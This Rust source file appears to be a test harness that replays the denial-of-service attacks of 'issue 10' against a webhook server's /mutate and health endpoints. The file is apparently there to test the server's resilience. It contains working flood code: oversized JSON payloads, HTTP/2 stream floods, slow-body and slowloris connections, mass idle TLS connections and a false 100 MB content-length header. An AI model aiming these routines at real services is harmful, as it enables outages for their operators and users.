//! The attacks of issue 10, each run until a deadline, replayed in a loop.

use std::collections::BTreeMap;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use axum::body::Bytes;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::task::JoinSet;
use tokio::time::Instant;

use crate::h2raw;
use crate::net::{post, Proto, Target};
use crate::payloads;

/// What the attacker saw: answers by status, and errors.
#[derive(Default, Clone)]
pub struct Stats(Arc<Mutex<BTreeMap<String, u64>>>);

impl Stats {
    pub fn count(&self, what: impl Into<String>) {
        *self
            .0
            .lock()
            .expect("stats")
            .entry(what.into())
            .or_default() += 1;
    }

    pub fn summary(&self) -> String {
        let map = self.0.lock().expect("stats");
        map.iter()
            .map(|(k, v)| format!("{k}:{v}"))
            .collect::<Vec<_>>()
            .join(",")
    }
}

pub const ATTACKS: &[&str] = &[
    "none",
    "containers-1m",
    "annotations-500k",
    "legacy-10k",
    "legacy-30k",
    "large-64",
    "slow-large-64",
    "h2-streams-64",
    "slow-256-h1",
    "slow-256-h2",
    "idle-tls",
    "idle-12k",
    "idle-1010",
    "probe-slowloris",
    "content-length",
];

/// Starts the attack's tasks once it is prepared: `(until, tasks)`.
pub type Launch = Box<dyn FnOnce(Instant, &mut JoinSet<()>)>;

/// Builds `attack`'s payloads (which takes a while for the large ones) and
/// returns what starts it.
pub fn prepare(attack: &str, target: &Target, stats: &Stats) -> Launch {
    let t = target.clone();
    let s = stats.clone();
    const LARGE: usize = 7_900_000;
    let repeat_with = |n: usize, body: Vec<u8>| -> Launch {
        let (t, s, body) = (t.clone(), s.clone(), Bytes::from(body));
        Box::new(move |until, tasks| repeat(tasks, n, t, s, until, Proto::H1, body))
    };
    match attack {
        "none" => Box::new(|_, _| {}),
        "containers-1m" => repeat_with(2, payloads::empty_containers(1_000_000)),
        "annotations-500k" => repeat_with(2, payloads::annotations(500_000)),
        "legacy-10k" => repeat_with(2, payloads::legacy_containers(10_000)),
        "legacy-30k" => repeat_with(2, payloads::legacy_containers(30_000)),
        "large-64" => repeat_with(64, payloads::padded(LARGE)),
        "slow-large-64" => Box::new(move |until, tasks| {
            for _ in 0..64 {
                let (t, s) = (t.clone(), s.clone());
                tasks.spawn(async move { slow_body(&t, &s, LARGE, LARGE - 100_000, until).await });
            }
        }),
        "h2-streams-64" => {
            let body = Bytes::from(payloads::padded(LARGE));
            Box::new(move |until, tasks| {
                tasks.spawn(async move {
                    while Instant::now() < until {
                        let Ok(conn) = t.conn(Proto::H2).await else {
                            s.count("connect-error");
                            continue;
                        };
                        let mut streams = JoinSet::new();
                        for _ in 0..64 {
                            let (mut c, s, body) =
                                (conn.stream().expect("h2"), s.clone(), body.clone());
                            streams.spawn(async move {
                                while Instant::now() < until {
                                    match post(&mut c, body.clone()).await {
                                        Ok(status) => s.count(status.to_string()),
                                        Err(_) => {
                                            s.count("error");
                                            return;
                                        }
                                    }
                                }
                            });
                        }
                        while streams.join_next().await.is_some() {}
                    }
                });
            })
        }
        "slow-256-h1" => {
            let size = payloads::normal(&serde_json::json!({})).len() + 5_000;
            Box::new(move |until, tasks| {
                for _ in 0..256 {
                    let (t, s) = (t.clone(), s.clone());
                    tasks.spawn(async move { slow_body(&t, &s, size, size / 2, until).await });
                }
            })
        }
        "slow-256-h2" => Box::new(move |until, tasks| {
            tasks.spawn(async move {
                let used = h2raw::slow_streams(&t, 256, 5_000, 2_500, until).await;
                s.count(format!("connections={used}"));
            });
        }),
        "idle-tls" => Box::new(move |until, tasks| idle(tasks, 1_000, t, s, until)),
        "idle-12k" => Box::new(move |until, tasks| idle(tasks, 12_000, t, s, until)),
        "idle-1010" => Box::new(move |until, tasks| idle(tasks, 1_010, t, s, until)),
        "probe-slowloris" => Box::new(move |until, tasks| {
            for _ in 0..200 {
                let (t, s) = (t.clone(), s.clone());
                tasks.spawn(async move {
                    while Instant::now() < until {
                        let Ok(mut tcp) = TcpStream::connect(t.metrics).await else {
                            s.count("connect-error");
                            tokio::time::sleep(Duration::from_millis(100)).await;
                            continue;
                        };
                        let _ = tcp.write_all(b"GET /healthz HTTP/1.1\r\nhost: x\r\n").await;
                        wait_closed(&mut tcp, until).await;
                        s.count("closed");
                    }
                });
            }
        }),
        "content-length" => Box::new(move |until, tasks| {
            for _ in 0..64 {
                let (t, s) = (t.clone(), s.clone());
                tasks.spawn(async move {
                    while Instant::now() < until {
                        let Ok(mut tls) = t.tls(Proto::H1).await else {
                            s.count("connect-error");
                            continue;
                        };
                        let head = "POST /mutate HTTP/1.1\r\nhost: localhost\r\ncontent-length: 104857600\r\n\r\n";
                        let _ = tls.write_all(head.as_bytes()).await;
                        let mut buf = [0u8; 12];
                        match tls.read_exact(&mut buf).await {
                            Ok(_) => s.count(String::from_utf8_lossy(&buf[9..12]).into_owned()),
                            Err(_) => s.count("error"),
                        }
                    }
                });
            }
        }),
        other => panic!("unknown attack {other}; known: {ATTACKS:?}"),
    }
}

/// `n` connections, each posting `body()` in a loop.
fn repeat(
    tasks: &mut JoinSet<()>,
    n: usize,
    t: Target,
    s: Stats,
    until: Instant,
    proto: Proto,
    body: Bytes,
) {
    for _ in 0..n {
        let (t, s, body) = (t.clone(), s.clone(), body.clone());
        tasks.spawn(async move {
            while Instant::now() < until {
                let Ok(mut conn) = t.conn(proto).await else {
                    s.count("connect-error");
                    tokio::time::sleep(Duration::from_millis(50)).await;
                    continue;
                };
                while Instant::now() < until {
                    match post(&mut conn, body.clone()).await {
                        Ok(status) => s.count(status.to_string()),
                        Err(_) => {
                            s.count("error");
                            break;
                        }
                    }
                }
            }
        });
    }
}

/// Declares `length` bytes, sends `first` at once, then one byte a second; reconnects when closed.
async fn slow_body(t: &Target, s: &Stats, length: usize, first: usize, until: Instant) {
    while Instant::now() < until {
        let Ok(mut tls) = t.tls(Proto::H1).await else {
            s.count("connect-error");
            tokio::time::sleep(Duration::from_millis(100)).await;
            continue;
        };
        let head = format!(
            "POST /mutate HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\ncontent-length: {length}\r\n\r\n"
        );
        if tls.write_all(head.as_bytes()).await.is_err() {
            continue;
        }
        let chunk = vec![b' '; 64 * 1024];
        let mut sent = 0;
        while sent < first {
            let n = chunk.len().min(first - sent);
            if tls.write_all(&chunk[..n]).await.is_err() {
                break;
            }
            sent += n;
        }
        let (mut read, mut write) = tokio::io::split(tls);
        let answer = tokio::spawn(async move {
            let mut buf = [0u8; 12];
            read.read_exact(&mut buf).await.ok().map(|_| buf)
        });
        while !answer.is_finished() && Instant::now() < until && sent + 1 < length {
            tokio::time::sleep(Duration::from_secs(1)).await;
            if write.write_all(b" ").await.is_err() {
                break;
            }
            sent += 1;
        }
        match answer.is_finished() {
            true => match answer.await {
                Ok(Some(buf)) => s.count(String::from_utf8_lossy(&buf[9..12]).into_owned()),
                _ => s.count("closed"),
            },
            false => answer.abort(),
        }
    }
}

/// `n` TLS connections that send nothing after the handshake; reopened when closed.
fn idle(tasks: &mut JoinSet<()>, n: usize, t: Target, s: Stats, until: Instant) {
    for _ in 0..n {
        let (t, s) = (t.clone(), s.clone());
        tasks.spawn(async move {
            while Instant::now() < until {
                match t.tls(Proto::H1).await {
                    Ok(mut tls) => {
                        s.count("open");
                        wait_closed(&mut tls, until).await;
                    }
                    Err(_) => {
                        s.count("connect-error");
                        tokio::time::sleep(Duration::from_millis(200)).await;
                    }
                }
            }
        });
    }
}

async fn wait_closed<S: tokio::io::AsyncRead + Unpin>(stream: &mut S, until: Instant) {
    let mut buf = [0u8; 1024];
    let read = async {
        while let Ok(n) = stream.read(&mut buf).await {
            if n == 0 {
                break;
            }
        }
    };
    let _ = tokio::time::timeout_at(until, read).await;
}
